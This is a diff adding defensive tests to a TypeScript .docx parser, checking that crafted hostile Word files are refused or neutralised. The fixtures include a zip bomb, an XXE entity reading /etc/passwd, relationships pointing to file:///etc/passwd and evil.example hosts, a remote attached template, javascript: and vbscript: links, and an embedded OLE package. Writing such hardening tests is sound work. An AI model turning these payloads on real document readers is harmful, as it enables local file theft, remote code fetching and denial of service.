@@ -150,6 +150,23 @@ describe('a plan written in Word', () => {
   });
 });
 
+const manyParts = (n: number): Uint8Array =>
+  zipSync({
+    ...unzipSync(file(p('文'))),
+    ...Object.fromEntries(Array.from({ length: n }, (_, i) => [`word/x${i}.xml`, new Uint8Array()])),
+  });
+/** The same name twice in the archive: the name of another part is overwritten with it. */
+function twice(name: string): Uint8Array {
+  const spare = name.replace(/.$/u, '_');
+  const bytes = zipSync({ ...unzipSync(file(p('文'))), [spare]: strToU8('<x/>') });
+  const text = strFromU8(bytes, true).replaceAll(spare, name);
+  return strToU8(text, true);
+}
+const nested = (depth: number): string =>
+  strFromU8(depth === 0 ? new Uint8Array(1 << 20) : zipSync({ 'a.zip': strToU8(nested(depth - 1), true) }), true);
+const outside = (target: string): Uint8Array =>
+  file(p('文'), { '_rels/.rels': rels(rel('d', 'officeDocument', target, 'External')) });
+
 describe('a hostile file', () => {
   const refused = (bytes: Uint8Array) => {
     const read = readDocx(bytes);
@@ -172,6 +189,57 @@ describe('a hostile file', () => {
     expect(refused(file('<w:sdt><w:sdtContent>'.repeat(5_000)))).toBe('damaged');
     const cut = file(p('文'));
     expect(refused(cut.slice(0, cut.length - 30))).toBe('damaged');
+  });
+  it.each([
+    ['more parts than any document has', () => manyParts(3_000), 'tooLarge'],
+    ['as many parts as a document may have', () => manyParts(2_900), 'taken'],
+    ['a part that repeats another one', () => twice('word/document.xml'), 'damaged'],
+    ['fifty thousand elements within each other', () => file('<w:ins>'.repeat(50_000)), 'damaged'],
+    ['a picture that is an archive of archives', () => file(p('文'), { 'word/media/a.png': nested(5) }), 'taken'],
+    ['an outside file in place of the text', () => outside('file:///etc/passwd'), 'kind'],
+    ['a text on a server of the network', () => outside('\\\\evil.example\\share\\a.xml'), 'kind'],
+    ['a text that a page of the web has', () => outside('http://evil.example/document.xml'), 'kind'],
+    [
+      'a parameter entity of another file',
+      () =>
+        file('', {
+          'word/document.xml': `<!DOCTYPE w [<!ENTITY % e SYSTEM "file:///etc/passwd"> %e;]><w:document ${W}/>`,
+        }),
+      'damaged',
+    ],
+    [
+      'entities in its list of relations',
+      () => file('', { '_rels/.rels': `<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><Relationships/>` }),
+      'damaged',
+    ],
+  ])('with %s has its outcome', (_, make, outcome) => {
+    expect(refused(make())).toBe(outcome);
+  });
+  it('runs and fetches nothing that is embedded or linked, and names it', () => {
+    const addresses = [
+      'javascript:alert(1)',
+      'file:///c:/windows',
+      '\\\\evil.example\\share',
+      'vbscript:x',
+      'data:text/html,x',
+    ];
+    const links = addresses
+      .map((_, i) => `<w:hyperlink r:id="l${i}"><w:r><w:t>${i}</w:t></w:r></w:hyperlink>`)
+      .join('');
+    const ole = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:o" ProgID="Package" r:id="o"/></w:object></w:r></w:p>';
+    const read = taken(
+      file(`<w:p>${links}</w:p>${ole}`, { 'word/vbaProject.bin': 'x', 'word/embeddings/oleObject1.bin': 'MZ' }, [
+        ...addresses.map((a, i) => rel(`l${i}`, 'hyperlink', a, 'External')),
+        rel('o', 'oleObject', 'embeddings/oleObject1.bin'),
+        rel('t', 'attachedTemplate', 'http://evil.example/a.dotm', 'External'),
+      ]),
+    );
+    expect(read.paper.blocks).toEqual([{ kind: 'paragraph', runs: said('01234') }]);
+    expect(JSON.stringify([read.paper, [...read.paper.pictures]])).not.toMatch(/evil|javascript|MZ/u);
+    expect(read.left).toEqual([
+      { kind: 'embedded', count: 1 },
+      { kind: 'macros', count: 1 },
+    ]);
   });
   it('is cut to the maximum number of table rows, and the rest is reported', () => {
     const row = `<w:tr><w:tc>${p('a')}</w:tc></w:tr>`;
